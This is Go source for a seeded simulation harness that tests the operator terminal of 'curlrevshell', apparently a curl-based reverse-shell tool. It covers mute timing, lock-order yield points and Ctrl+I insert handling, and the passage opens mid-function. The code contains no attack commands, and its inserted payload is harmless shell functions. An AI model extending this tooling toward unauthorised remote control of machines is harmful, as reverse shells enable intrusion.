			script = append(script, Action{K: "status", B: []byte(fmt.Sprintf("<S%d> status", status))})
			status++
		case 2:
			script = append(script, Action{K: "sleep", Ns: []int64{1e6, 1e8, 1e9, 3e9}[rng.Intn(4)]})
		}
	}
	line := func() {
		script = append(script, Action{K: "key", B: []byte(fmt.Sprintf("typed%d\r", typed))})
		typed++
	}
	tab := Action{K: "key", B: []byte{0x09}}
	bad := func() string { return []string{"err", "empty"}[rng.Intn(2)] }
	for i := rng.Range(0, 2); i > 0; i-- {
		line()
	}
	if cfg.InsertSource != "" {
		script = append(script, Action{K: "src_mode", Mode: "ok"})
	}
	hold := Action{K: "src_hold"}
	if rng.Chance(1, 4) {
		hold.Mode = "all"
	}
	script = append(script, hold)
	filler()
	script = append(script, tab)
	for n := rng.Range(1, 3); n > 0; n-- {
		filler()
		switch rng.Pick([]int{50, 20, 15, 15}) {
		case 0:
			script = append(script, Action{K: "src_mode", Mode: bad()}, tab)
		case 1:
			script = append(script, Action{K: "src_mode", Mode: bad()}, tab, Action{K: "src_mode", Mode: "ok"})
		case 2:
			line()
		case 3:
			script = append(script, Action{K: "src_mode", Mode: "ok"}, tab)
		}
	}
	filler()
	line()
	if rng.Chance(1, 3) {
		line()
	}
	filler()
	if rng.Chance(3, 4) {
		script = append(script, Action{K: "src_release"})
	}
	cfg.Steps = len(script) + rng.Range(0, 12)
	return script
}

// genTimerBehindLock: the un-mute timer fires while output holds the write
// lock.  Muted; a chunk of shell output (or, the mirror image, a status line)
// is let run to its "-locked" site and held there, holding the lock; the fake
// clock is advanced to the instant the timer is due (the last shell output
// plus the pause interval: every step but a sleep takes no time, so the script
// knows it), or a little past it; the callback, parked at its own site, is
// then let go behind the holder ("grant_behind": it waits for the lock), and
// the holder after it.  The held shell output is handled muted at that instant,
// so calm starts again: output sent right away and a second later must still be
// suppressed, and the mute ends, announced, the pause interval after the last
// of them.  A held status line changes nothing about muting: the un-mute
// happens, announced, as soon as the lock is free.  Nothing is armed by the
// configuration, so the mute model judges the timing before and after the
// window.
func genTimerBehindLock(cfg *Config, rng *simkit.RNG) []Action {
	var script []Action
	plain, status := 0, 0
	p := func() {
		script = append(script, Action{K: "plain", B: []byte(fmt.Sprintf("<P%d>", plain))})
		plain++
	}
	st := func() {
		script = append(script, Action{K: "status", B: []byte(fmt.Sprintf("<S%d> status", status))})
		status++
	}
	sleep := func(ns int64) {
		if ns > 0 {
			script = append(script, Action{K: "sleep", Ns: ns})
		}
	}
	if rng.Chance(1, 3) {
		p() // shown
		if rng.Chance(1, 2) {
			sleep([]int64{1e6, 1e9, 3e9}[rng.Intn(3)])
		}
	}
	script = append(script, Action{K: "key", B: []byte{0x0f}})
	since := int64(0) // since the last thing that postpones the un-mute
	if rng.Chance(1, 2) {
		d := []int64{1e6, 1e8, 1e9, 19e8}[rng.Intn(4)]
		sleep(d)
		since = d
		switch rng.Intn(3) {
		case 0, 1:
			p() // suppressed; calm starts again
			since = 0
		case 2:
			st()
		}
	}
	// the held line is sent after a gap, so that it arrives strictly later than
	// what the timer counts from and before the timer is due
	var gaps []int64
	for _, g := range []int64{1, 1e6, 5e8, 15e8, pause - 1e6, pause - 1} {
		if since+g < pause {
			gaps = append(gaps, g)
		}
	}
	g := gaps[rng.Intn(len(gaps))]
	sleep(g)
	since += g
	locked := "plain-locked"
	if rng.Chance(2, 5) {
		locked = "logf-locked"
	}
	if rng.Chance(1, 2) {
		script = append(script, Action{K: "arm", Site: locked}, Action{K: "arm", Site: "timer"})
	} else {
		script = append(script, Action{K: "arm", Site: "timer"}, Action{K: "arm", Site: locked})
	}
	if locked == "plain-locked" {
		p()
	} else {
		st()
	}
	over := []int64{0, 0, 0, 0, 0, 0, 1, 1e6, 1e8, 1e9}[rng.Intn(10)]
	sleep(pause - since + over)
	script = append(script, Action{K: "grant_behind", Site: "timer"})
	p() // right away
	if rng.Chance(1, 4) {
		st()
	}
	if rng.Chance(1, 2) {
		sleep(1e9)
		p()
	}
	sleep([]int64{pause - 1, pause, pause + 1e6, 3e9}[rng.Intn(4)])
	p()
	sleep(25e8)
	p()
	cfg.Steps = len(script) + rng.Range(0, 10)
	return script
}

func (s *sim) genSleep() int64 {
	r := s.rng
	base := int64(2 * time.Second)
	switch r.Pick([]int{30, 30, 10, 10, 10, 10}) {
	case 0:
		return []int64{1e6, 1e7, 1e8, 5e8, 1e9, 15e8, 19e8}[r.Intn(7)]
	case 1:
		// around the pause interval, measured from the last shell output where possible
		d := []int64{0, 1, -1, 1e6, -1e6}[r.Intn(5)]
		target := base + d
		if s.muted {
			if rem := s.last + target - s.now(); rem > 0 {
				return rem
			}
		}
		return target
	case 2:
		return base + 1
	case 3:
		return 5e9
	case 4:
		return base - 1
	}
	return 3e9
}

func (s *sim) generate() (Action, bool) {
	r := s.rng
	var cands []Action
	var ws []int
	add := func(a Action, w int) {
		if w > 0 && s.precond(a) == nil {
			cands = append(cands, a)
			ws = append(ws, w)
		}
	}
	for _, site := range allSites {
		add(Action{K: "grant", Site: site}, 25)
	}
	add(Action{K: "grant_all"}, 25)
	add(Action{K: "key", B: []byte{0x0f}}, 14)
	add(Action{K: "plain", B: []byte(fmt.Sprintf("<P%d>", len(s.plainSent)))}, 30)
	add(Action{K: "plain", B: []byte(fmt.Sprintf("<P%d>multi\nline\r\noutput \x1b[1mbold\x1b[0m", len(s.plainSent)))}, 6)
	add(Action{K: "status", B: []byte(fmt.Sprintf("<S%d> status", len(s.statusSent)))}, 16)
	add(Action{K: "sleep", Ns: s.genSleep()}, 26)
	add(Action{K: "key", B: []byte(fmt.Sprintf("typed%d\r", len(s.typedLines)))}, 6)
	add(Action{K: "key", B: []byte{0x09}}, 3)
	add(Action{K: "drain"}, 4)
	if s.srcHold {
		add(Action{K: "src_release"}, 20)
	} else {
		add(Action{K: "src_hold", Mode: []string{"", "all"}[r.Intn(2)]}, 1)
	}
	for _, m := range []string{"ok", "err", "empty"} {
		if cur := s.srcMode; m != cur && !(m == "ok" && cur == "") {
			add(Action{K: "src_mode", Mode: m}, 1)
		}
	}
	// output ending in an incomplete UTF-8 sequence (Latin-1 text, binary data, a cut character)
	tails := []string{"\xe9", "\xf0\x9f", "caf\xc3", "\xff\xfe"}
	add(Action{K: "plain", B: []byte(fmt.Sprintf("<P%d>", len(s.plainSent)) + tails[r.Intn(len(tails))])}, 6)
	add(Action{K: "key", B: []byte{0x0a}}, 2)
	i := r.Pick(ws)
	if i < 0 {
		return Action{}, false
	}
	return cands[i], true
}
