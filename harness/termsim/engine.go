// Package termsim is Layer C of DESIGN.md: the operator terminal (opshell.New
// for real on the worker's pty, Shell.Do and the goxterm line editor inside a
// synctest bubble), with the terminal's byte streams, the clock, the operator
// channels and - through the verif yield points - the order of the shell's lock
// acquisitions owned by a seeded simulator.
package termsim

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"runtime/debug"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
	"testing/synctest"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Engine is the Layer C engine.
type Engine struct{}

// Name implements simkit.Engine.
func (Engine) Name() string { return "termsim" }

// Config is the per-run configuration.
type Config struct {
	Profile string   `json:"profile"`
	Arm     []string `json:"arm,omitempty"` // yield sites at which arriving goroutines are parked
	ChanCap int      `json:"chan_cap"`
	NoTS    bool     `json:"no_ts"`
	// InsertSource: what the Ctrl+I source does from the start of this run: ""
	// works, "err" is unreadable, "empty" yields nothing ("src_mode" actions
	// change it at quiescent points)
	InsertSource string `json:"insert_source,omitempty"`
	Stall        bool   `json:"stall,omitempty"` // nobody takes entered lines off the input channel until a "drain" action (no shell attached)
	// PayloadSize: how many bytes the Ctrl+I source gives in this run (multi-line
	// text made by payloadOf); 0 is the short fixed text of earlier versions
	PayloadSize int `json:"payload_size,omitempty"`
	Steps       int `json:"steps"`
}

// Action is one macro-step stimulus.
type Action struct {
	K    string `json:"k"`              // key | plain | status | sleep | grant | grant_all | disarm | arm | grant_behind | eof | drain | src_mode | src_hold | src_release
	B    []byte `json:"b,omitempty"`    // typed bytes / token
	Ns   int64  `json:"ns,omitempty"`   // sleep
	Site string `json:"site,omitempty"` // grant, arm: the yield site; grant_behind: the site of the goroutine let go first ("timer")
	Mode string `json:"mode,omitempty"` // src_mode: ok | err | empty; src_hold: "" (reads which give the payload are slow) | all (failing and empty ones too)
}

func (a Action) String() string {
	b, _ := json.Marshal(a)
	return string(b)
}

type twrite struct {
	at    int64 // fake-clock nanos since run start
	step  int
	data  []byte
	token bool // hasToken(data)
}

type ypark struct {
	site string
	ch   chan struct{}
	gid  int64
}

type sim struct {
	cfg Config
	rng *simkit.RNG

	mu        sync.Mutex
	start     time.Time
	in        []byte
	inWake    chan struct{}
	inEOF     bool
	writes    []twrite
	outBuf    []byte // concatenation of writes[:outN]
	outN      int
	outNoCR   []byte // outBuf[:noCRUpto] without carriage returns
	noCRUpto  int
	seen      map[string]*seenKey
	parks     []*ypark
	parkCount map[string]int64
	armed     map[string]bool
	bubble    int64
	ich       chan string
	och       chan opshell.CLine
	got       []string // entries received on ich
	doRet     bool
	doErr     error
	insertN   int
	payload   []byte
	payloadS  string // the same as a string (shared by everything that expects it)

	// mute model
	ctrlO      int
	muted      bool
	last       int64 // latest of Ctrl+O and plain arrivals while muted
	mutedSince int64
	announceBy int64 // if > 0: an announcement is owed by this time
	unmutedAt  int64

	plainSent  []tok
	statusSent []tok

	step       int
	actions    []Action
	script     []Action
	scriptPos  int
	replay     bool
	invalid    bool
	harnessErr string
	found      []simkit.Found
	trace      []string
	stepObs    []string
	faults     map[string]int64
	probes     map[string]int64
	nontrivial bool
	typedLines []string
	curLine    []byte
	simNanos   int64
	noJudge    bool // an exact tie with the un-mute instant happened: timing no longer judged
	stepStart  int64
	expect     []expEnt // what the operator entered, in order
	sentEOF    bool
	lastAct    Action
	stalled    bool
	// the Ctrl+I source: what a read that begins now gives ("" the payload,
	// "err", "empty") and whether reads are slow (they begin, and return only
	// once "src_release" lets them).  Both change only at quiescent points and
	// a read's result is fixed when it begins, so the source keeps no per-call
	// state that unordered readers (Ctrl+J) could disturb.
	srcMode    string
	srcHold    bool
	srcHoldAll bool // failing and empty reads are slow as well (otherwise only reads which give the payload)
	srcHeld    []chan struct{}
	srcHeldCnt int64
	suppressed []tok // shell output known to have been suppressed
	// sites armed by "arm" actions in a run whose Config arms nothing: while such
	// a window is open (something armed or parked) the mute model's clock stands
	// still; "grant_behind" closes the window and brings the model up to date,
	// any other way of closing it ends the judging of timing (noJudge)
	heldPlainAt int64 // >= 0: when the one chunk of shell output was sent that sits at "plain-locked" in such a window
	// soft: the chunk held in the window was handled (at last) well after it was
	// sent (at softLo-pause): until the next shell output the end of the mute is
	// only known to lie between softLo and last+pause
	soft   bool
	softLo int64
}

type tok struct {
	text         string
	at           int64
	step         int
	expect       string // shown | hidden | unjudged
	checked      bool
	exactChecked bool
}

// key is the part of a token that survives the terminal's newline handling.
func (t tok) key() string {
	if i := strings.IndexByte(t.text, '>'); i > 0 {
		return t.text[:i+1]
	}
	return t.text
}

var (
	curMu   sync.Mutex
	cur     *sim
	setup   sync.Once
	pause   = int64(opshell.PlainWritePause)
	slackNs = int64(250 * time.Millisecond)
)

func current() *sim {
	curMu.Lock()
	defer curMu.Unlock()
	return cur
}

// stdio is what the terminal reads from and writes to.
type stdio struct{}

func (stdio) Read(p []byte) (int, error) {
	s := current()
	if s == nil {
		return 0, io.EOF
	}
	for {
		s.mu.Lock()
		if len(s.in) > 0 {
			n := copy(p, s.in)
			s.in = s.in[n:]
			s.mu.Unlock()
			return n, nil
		}
		if s.inEOF {
			s.mu.Unlock()
			return 0, io.EOF
		}
		w := s.inWake
		s.mu.Unlock()
		<-w
	}
}

func (stdio) Write(p []byte) (int, error) {
	s := current()
	if s == nil {
		return len(p), nil
	}
	s.mu.Lock()
	s.writes = append(s.writes, twrite{at: int64(time.Since(s.start)), step: s.step, data: append([]byte(nil), p...), token: hasToken(p)})
	s.mu.Unlock()
	return len(p), nil
}

func yield(site string) {
	s := current()
	if s == nil {
		return
	}
	s.mu.Lock()
	if !s.armed[site] {
		s.mu.Unlock()
		return
	}
	p := &ypark{site: site, ch: make(chan struct{}), gid: simkit.GoID()}
	s.parks = append(s.parks, p)
	s.parkCount[site]++
	s.mu.Unlock()
	<-p.ch
}

func globalSetup() {
	setup.Do(func() {
		// the runtime's signal goroutine must exist before any bubble does
		c := make(chan os.Signal, 1)
		signal.Notify(c, syscall.SIGWINCH)
		signal.Stop(c)
		opshell.VerifStdio = stdio{}
		opshell.VerifYield = yield
		simkit.WatchdogQuiet = 4 * time.Second
		simkit.Stuck = stuck
		simkit.Describe = func() string {
			s := current()
			if s == nil {
				return ""
			}
			return fmt.Sprintf("termsim: arm=%v stuck in step %d %v after:\n%s", s.cfg.Arm, s.step, s.lastAct, strings.Join(s.trace, "\n"))
		}
	})
}

// Run implements simkit.Engine.
func (Engine) Run(t *testing.T, job *simkit.Job, rng *simkit.RNG, idx int64, c *simkit.Case) *simkit.Outcome {
	globalSetup()
	s := &sim{rng: rng, faults: map[string]int64{}, probes: map[string]int64{}, armed: map[string]bool{}, parkCount: map[string]int64{}, seen: map[string]*seenKey{}, heldPlainAt: -1}
	if c != nil {
		s.replay = true
		if err := json.Unmarshal(c.Config, &s.cfg); err != nil {
			return &simkit.Outcome{HarnessErr: "bad config: " + err.Error()}
		}
		for _, raw := range c.Actions {
			var a Action
			if err := json.Unmarshal(raw, &a); err != nil {
				return &simkit.Outcome{HarnessErr: "bad action: " + err.Error()}
			}
			s.script = append(s.script, a)
		}
	} else {
		s.cfg, s.script = genConfig(job, rng, idx)
	}
	for _, site := range s.cfg.Arm {
		s.armed[site] = true
	}
	curMu.Lock()
	cur = s
	curMu.Unlock()
	func() {
		defer func() {
			if r := recover(); r != nil && s.harnessErr == "" {
				if strings.Contains(fmt.Sprint(r), "blocked goroutines remain") {
					// goroutines of the shell that wait for something that will never
					// come (an insert nobody lets go on): no operator-visible effect by
					// itself, so not judged; visible effects are judged during the run
					s.probes["goroutines_left_blocked_at_end"]++
					return
				}
				s.harnessErr = fmt.Sprintf("panic around bubble: %v\n%s", r, debug.Stack())
			}
		}()
		synctest.Test(t, func(*testing.T) { s.main() })
	}()
	curMu.Lock()
	cur = nil
	curMu.Unlock()
	return s.outcome()
}

func (s *sim) caseOf() *simkit.Case {
	cb, _ := json.Marshal(s.cfg)
	cs := &simkit.Case{Config: cb}
	for _, a := range s.actions {
		b, _ := json.Marshal(a)
		cs.Actions = append(cs.Actions, b)
	}
	return cs
}

func (s *sim) outcome() *simkit.Outcome {
	s.mu.Lock()
	for k, v := range s.parkCount {
		s.probes["parked_"+k] += v
	}
	s.parkCount = map[string]int64{}
	if s.srcHeldCnt > 0 {
		s.faults["insert_source_slow"] += s.srcHeldCnt
		s.srcHeldCnt = 0
	}
	s.mu.Unlock()
	o := &simkit.Outcome{Invalid: s.invalid, Steps: int64(s.step), SimNanos: s.simNanos, Faults: s.faults, Probes: s.probes,
		NonTrivial: s.nontrivial, Violations: s.found, Trace: s.trace, HarnessErr: s.harnessErr}
	o.Case = s.caseOf()
	parts := []string{string(o.Case.Config)}
	for _, a := range o.Case.Actions {
		parts = append(parts, string(a))
	}
	o.Hash = simkit.Hash64(parts...)
	return o
}

func (s *sim) now() int64 { return int64(time.Since(s.start)) }

func (s *sim) violate(prop, inv, sig, format string, a ...any) {
	if s.cfg.Profile == "C04" && prop == "C19" && inv == "status-always-shown" {
		// the closure, ready and gone notices of C04 are status lines: one that
		// never reaches the terminal is an announcement the operator did not get
		prop, inv, sig = "C04", "notices-reach-terminal", "status line (closure / ready / gone notice) never written to the terminal"
	}
	for _, f := range s.found {
		if f.Property == prop && f.Invariant == inv {
			return
		}
	}
	msg := fmt.Sprintf(format, a...)
	s.found = append(s.found, simkit.Found{Property: prop, Invariant: inv, Signature: sig, Message: fmt.Sprintf("step %d (t=%s): %s", s.step, time.Duration(s.now()), msg)})
	s.obs("VIOLATION %s/%s: %s", prop, inv, msg)
}

func (s *sim) obs(format string, a ...any) { s.stepObs = append(s.stepObs, fmt.Sprintf(format, a...)) }

func (s *sim) flushObs(act string) {
	sort.Strings(s.stepObs)
	s.trace = append(s.trace, fmt.Sprintf("step %d t=%s %s :: %s", s.step, time.Duration(s.now()), act, strings.Join(s.stepObs, " ; ")))
	s.stepObs = s.stepObs[:0]
}

func (s *sim) main() {
	defer func() {
		if r := recover(); r != nil {
			s.harnessErr = fmt.Sprintf("panic in simulator: %v\n%s", r, debug.Stack())
		}
	}()
	s.start = time.Now()
	s.mu.Lock()
	s.inWake = make(chan struct{}, 1) // inside the bubble, so that waiting on it blocks durably
	s.mu.Unlock()
	s.bubble = simkit.CurrentBubble()
	cap := s.cfg.ChanCap
	s.ich = make(chan string, cap)
	s.och = make(chan opshell.CLine, cap)
	s.payload = payloadOf(s.cfg.PayloadSize)
	s.payloadS = string(s.payload)
	s.srcMode = s.cfg.InsertSource
	sh, cleanup, err := opshell.New(s.ich, s.och, "> ", s.cfg.NoTS, s.readSource, "payload")
	if err != nil {
		s.harnessErr = "opshell.New: " + err.Error() + " (the worker needs a controlling terminal)"
		return
	}
	defer cleanup()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go func() {
		err := sh.Do(ctx)
		s.mu.Lock()
		s.doRet, s.doErr = true, err
		s.mu.Unlock()
	}()
	s.stalled = s.cfg.Stall
	s.settle()
	s.flushObs("{start}")
	max := s.cfg.Steps
	if max <= 0 {
		max = 40
	}
	for s.step = 1; s.step <= max && len(s.found) == 0 && s.harnessErr == ""; s.step++ {
		simkit.Heartbeat.Add(1)
		a, ok := s.next()
		if !ok {
			break
		}
		if err := s.precond(a); err != nil {
			if s.replay {
				s.invalid = true
				s.trace = append(s.trace, fmt.Sprintf("step %d %s :: NOT ENABLED: %v", s.step, a, err))
				break
			}
			s.harnessErr = fmt.Sprintf("generated action %s not enabled: %v", a, err)
			break
		}
		s.actions = append(s.actions, a)
		s.apply(a)
		s.settle()
		s.check(a)
		s.flushObs(a.String())
	}
	// closing phase: release everything, let the terminal finish, end of input
	s.step++
	s.stalled = false
	if !s.invalid && s.harnessErr == "" && len(s.found) == 0 {
		s.windowClosedAnyhow()
		s.disarm()
		s.srcRelease()
		s.settle()
		s.finalCheck()
		s.flushObs("{final}")
	}
	s.disarm()
	s.srcRelease()
	s.mu.Lock()
	s.inEOF = true
	s.mu.Unlock()
	s.wake()
	cancel()
	for i := 0; i < 50; i++ {
		s.settle()
		s.mu.Lock()
		done := s.doRet
		s.mu.Unlock()
		if done {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	s.simNanos = s.now()
	s.mu.Lock()
	done := s.doRet
	s.mu.Unlock()
	if !done && len(s.found) == 0 && s.harnessErr == "" {
		s.harnessErr = "Shell.Do did not return after end of input and cancellation"
	}
	// timers of the shell that are still pending must not outlive the bubble
	time.Sleep(10 * time.Second)
	synctest.Wait()
}

// readSource is the Ctrl+I source.
func (s *sim) readSource() ([]byte, error) {
	s.mu.Lock()
	s.insertN++
	mode := s.srcMode
	var ch chan struct{}
	if s.srcHold && (mode == "" || s.srcHoldAll) {
		ch = make(chan struct{}) // made by a goroutine of the bubble: waiting on it blocks durably
		s.srcHeld = append(s.srcHeld, ch)
		s.srcHeldCnt++
	}
	s.mu.Unlock()
	if ch != nil {
		<-ch
	}
	switch mode {
	case "err":
		return nil, errors.New("insert source unreadable (injected)")
	case "empty":
		return nil, nil
	}
	return s.payload, nil
}

// heldReads: reads of the source that have begun and not returned.
func (s *sim) heldReads() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.srcHeld)
}

// srcRelease makes the source fast again and lets every read in progress return.
func (s *sim) srcRelease() int {
	s.mu.Lock()
	hs := s.srcHeld
	s.srcHeld, s.srcHold = nil, false
	s.mu.Unlock()
	for _, ch := range hs {
		close(ch)
	}
	return len(hs)
}

func (s *sim) wake() {
	select {
	case s.inWake <- struct{}{}:
	default:
	}
}

// settle runs the code to quiescence, taking entered lines off ich.
func (s *sim) settle() {
	for i := 0; i < 100000; i++ {
		synctest.Wait()
		got := false
		for !s.stalled {
			select {
			case l := <-s.ich:
				s.got = append(s.got, l)
				if len(l) > clipLen {
					s.obs("ich %q (%d bytes)", clipS(l), len(l))
				} else {
					s.obs("ich %q", l)
				}
				if len(l) >= largePayload && l == s.payloadS {
					s.probes["large_insert_delivered_whole"]++
				}
				got = true
				continue
			default:
			}
			break
		}
		if !got {
			return
		}
	}
	s.harnessErr = "settle does not converge"
}

// clipLen: no trace line or message carries more than this of one entry.
const clipLen = 60

func clipS(x string) string {
	if len(x) > clipLen {
		return x[:clipLen] + "..."
	}
	return x
}

// largePayload: from this size on an insert counts as large in the evidence
// (the counters only; nothing is judged by size).
const largePayload = 32 << 10

// payloadOf makes what the Ctrl+I source gives: n bytes of multi-line text
// (function definitions, comments, an empty line now and then, some non-ASCII),
// a function of n alone.  The last byte is a newline.  n == 0 gives the short
// fixed text of earlier versions.
func payloadOf(n int) []byte {
	if n <= 0 {
		return []byte("f1() {\n echo one\n}\n# TABDOC: f1 first\n\nf2() { echo \"two\"; }\n")
	}
	b := make([]byte, 0, n+128)
	for i := 1; len(b) < n; i++ {
		switch i % 5 {
		case 0:
			b = append(b, '\n')
		case 1:
			b = fmt.Appendf(b, "f%d() {\n echo \"line %d of the insert\"\n}\n", i, i)
		case 2:
			b = fmt.Appendf(b, "# TABDOC: f%d does caf\xc3\xa9 number %d\n", i-1, i)
		case 3:
			b = fmt.Appendf(b, "g%d() { printf '%%s\\n' \"$@\" | sed -e 's/^/%d: /'; }\n", i, i)
		default:
			b = fmt.Appendf(b, "V%d='%x'\n", i, uint64(i)*0x9e3779b97f4a7c15)
		}
	}
	b = b[:n]
	b[n-1] = '\n'
	return b
}

// sizeClass names the payload size for the evidence counters.
func sizeClass(n int) string {
	switch {
	case n == 0:
		return "short_fixed"
	case n < largePayload:
		return "under_32k"
	case n == largePayload:
		return "32768"
	case n == largePayload+1:
		return "32769"
	case n <= 2*largePayload+1:
		return "about_64k"
	case n < 512<<10:
		return "about_100k"
	}
	return "about_1m"
}

// disarm stops parking (first, so that nothing released can park again) and
// lets every parked goroutine go.
func (s *sim) disarm() {
	s.mu.Lock()
	s.armed = map[string]bool{}
	s.mu.Unlock()
	s.releaseAll()
}

func (s *sim) releaseAll() {
	s.mu.Lock()
	ps := s.parks
	s.parks = nil
	s.mu.Unlock()
	for _, p := range ps {
		close(p.ch)
	}
}

func (s *sim) heldSites() map[string]int {
	s.mu.Lock()
	defer s.mu.Unlock()
	m := map[string]int{}
	for _, p := range s.parks {
		m[p.site]++
	}
	return m
}

func lockedSite(site string) bool { return strings.HasSuffix(site, "-locked") }

// windowOpen: is the simulator holding goroutines back (or ready to) at the
// moment?  While it is, when things are handled is its doing and the mute
// model's clock is not meaningful.
func (s *sim) windowOpen() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.parks) > 0 {
		return true
	}
	for _, on := range s.armed {
		if on {
			return true
		}
	}
	return false
}

// windowClosedAnyhow: what was held back is about to be let go in a way that
// does not tell the model when each thing is handled.
func (s *sim) windowClosedAnyhow() {
	if len(s.cfg.Arm) == 0 && s.windowOpen() {
		if !s.noJudge {
			s.probes["timing_no_longer_judged"]++
		}
		s.noJudge = true
		s.heldPlainAt = -1
	}
}

func (s *sim) next() (Action, bool) {
	if s.scriptPos < len(s.script) {
		a := s.script[s.scriptPos]
		s.scriptPos++
		return a, true
	}
	if s.replay {
		return Action{}, false
	}
	return s.generate()
}

// Lock bookkeeping for the yield sites.  W is the shell's write lock, T the
// line editor's lock.  A goroutine parked at a "-locked" site holds W; one
// parked in the Ctrl+O callback may hold T (it does when the callback runs on
// the line reader's goroutine).  The simulator lets something run only if
// every lock it asks for before it parks again or finishes is not held by
// another parked goroutine: otherwise a sync.Mutex wait, which the bubble
// cannot see through, would stall the run (a real deadlock is different: it
// happens with nothing parked, and the watchdog proves it).
type lockSet struct{ w, t bool }

func (s *sim) heldLocks(except *ypark) lockSet {
	var h lockSet
	for _, p := range s.parks {
		if p == except {
			continue
		}
		if lockedSite(p.site) {
			h.w = true
		}
		if p.site == "ctrlo" {
			h.t = true
		}
	}
	return h
}

// outputSafe: may a goroutine run that first passes the pre-lock site pre,
// takes W, passes the site locked and then writes to the terminal (T)?
func (s *sim) outputSafe(h lockSet, pre, locked string, fromPre bool) bool {
	if !fromPre && s.armed[pre] {
		return true // parks before it asks for anything
	}
	if h.w {
		return false
	}
	return s.armed[locked] || !h.t
}

func (s *sim) grantSafe(p *ypark) bool {
	h := s.heldLocks(p)
	switch p.site {
	case "ctrlo":
		// takes W, then starts a logging goroutine
		return !h.w && s.outputSafe(h, "logf", "logf-locked", false)
	case "plain":
		return s.outputSafe(h, "plain", "plain-locked", true)
	case "logf":
		return s.outputSafe(h, "logf", "logf-locked", true)
	case "plain-locked", "logf-locked":
		return !h.t
	case "timer":
		return !h.w && s.outputSafe(h, "logf", "logf-locked", false)
	}
	return false
}

// precond says whether a is enabled (see the lock bookkeeping above).
func (s *sim) precond(a Action) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	h := s.heldLocks(nil)
	switch a.K {
	case "grant":
		var p *ypark
		for _, q := range s.parks {
			if q.site == a.Site {
				p = q
				break
			}
		}
		if p == nil {
			return fmt.Errorf("nothing parked at %s", a.Site)
		}
		if !s.grantSafe(p) {
			return fmt.Errorf("letting it run alone would make it wait for a lock a parked goroutine holds: only grant_all")
		}
	case "grant_all":
		if len(s.parks) == 0 {
			return fmt.Errorf("nothing parked")
		}
	case "plain":
		if !s.outputSafe(h, "plain", "plain-locked", false) {
			return fmt.Errorf("output would wait for a lock a parked goroutine holds")
		}
	case "status":
		if !s.outputSafe(h, "logf", "logf-locked", false) {
			return fmt.Errorf("output would wait for a lock a parked goroutine holds")
		}
	case "key":
		if s.stalled && s.maxPending() > cap(s.ich) && bytes.Contains(a.B, []byte{0x0f}) {
			return fmt.Errorf("the line reader is blocked on the full input channel: Ctrl+O would be handled at an unknown later time")
		}
		if len(s.srcHeld) > 0 && bytes.Contains(a.B, []byte{0x0f}) {
			return fmt.Errorf("the line reader may be waiting behind an insert whose source is being read: Ctrl+O would be handled at an unknown later time")
		}
		if h.t {
			return fmt.Errorf("the line reader may be the goroutine parked in the Ctrl+O callback: typed keys would queue behind it")
		}
		if s.armed["ctrlo"] && bytes.Contains(a.B, []byte{0x0f}) && (bytes.Count(a.B, []byte{0x0f}) > 1 || a.B[len(a.B)-1] != 0x0f) {
			return fmt.Errorf("with the Ctrl+O callback armed, Ctrl+O must be the last key of the stimulus")
		}
		if bytes.Contains(a.B, []byte{0x0f}) && !s.armed["ctrlo"] && (h.w || !s.outputSafe(h, "logf", "logf-locked", false)) {
			return fmt.Errorf("the Ctrl+O handler would wait for a lock a parked goroutine holds")
		}
		if bytes.ContainsAny(a.B, "\t\n") {
			if len(s.parks) > 0 || s.armed["logf"] || s.armed["logf-locked"] {
				return fmt.Errorf("insert logging is kept out of lock-order schedules")
			}
		}
	case "sleep":
		if a.Ns <= 0 {
			return fmt.Errorf("bad sleep")
		}
		if !s.armed["timer"] && (h.w || !s.outputSafe(h, "logf", "logf-locked", false)) {
			return fmt.Errorf("a timer would wait for a lock a parked goroutine holds")
		}
	case "disarm":
	case "arm":
		ok := false
		for _, site := range allSites {
			ok = ok || site == a.Site
		}
		if !ok {
			return fmt.Errorf("unknown site %q", a.Site)
		}
	case "grant_behind":
		// the goroutine parked at Site is let run although another parked one
		// holds the write lock: the one waits for the lock (a wait the bubble
		// cannot see through: polled), then the holder is let go.  Nothing else
		// may be about to ask for a lock.
		if a.Site != "timer" {
			return fmt.Errorf("grant_behind is for the timer callback only")
		}
		holders, first := 0, 0
		for _, p := range s.parks {
			switch {
			case lockedSite(p.site):
				holders++
			case p.site == a.Site:
				first++
			default:
				return fmt.Errorf("something else is parked (at %s)", p.site)
			}
		}
		if holders != 1 || first > 1 {
			return fmt.Errorf("needs exactly one parked holder of the write lock and at most one goroutine parked at %s (have %d, %d)", a.Site, holders, first)
		}
		if len(s.och) > 0 {
			return fmt.Errorf("output is queued behind the holder: it would compete for the lock")
		}
		if len(s.srcHeld) > 0 {
			return fmt.Errorf("insert logging is kept out of lock-order schedules")
		}
	case "src_mode":
		if a.Mode != "ok" && a.Mode != "err" && a.Mode != "empty" {
			return fmt.Errorf("bad source mode %q", a.Mode)
		}
	case "src_hold":
		if a.Mode != "" && a.Mode != "all" {
			return fmt.Errorf("bad hold mode %q", a.Mode)
		}
	case "src_release":
		if len(s.srcHeld) > 0 && (len(s.parks) > 0 || s.armed["logf"] || s.armed["logf-locked"]) {
			return fmt.Errorf("insert logging is kept out of lock-order schedules")
		}
	case "drain":
		if !s.stalled {
			return fmt.Errorf("input channel is not stalled")
		}
	case "eof":
		if len(s.parks) > 0 {
			return fmt.Errorf("goroutines are parked")
		}
	default:
		return fmt.Errorf("unknown action %q", a.K)
	}
	if (a.K == "plain" || a.K == "status") && len(s.och) == cap(s.och) {
		return fmt.Errorf("operator channel full")
	}
	return nil
}

func (s *sim) apply(a Action) {
	now := s.now()
	s.stepStart, s.lastAct = now, a
	switch a.K {
	case "key":
		s.mu.Lock()
		s.in = append(s.in, a.B...)
		slow := len(s.srcHeld)
		s.mu.Unlock()
		for _, c := range a.B {
			switch c {
			case 0x0f:
				s.ctrlO++
				s.nontrivial = true
				if len(s.cfg.Arm) == 0 && s.windowOpen() {
					s.mu.Lock()
					later := s.armed["ctrlo"]
					s.mu.Unlock()
					if later {
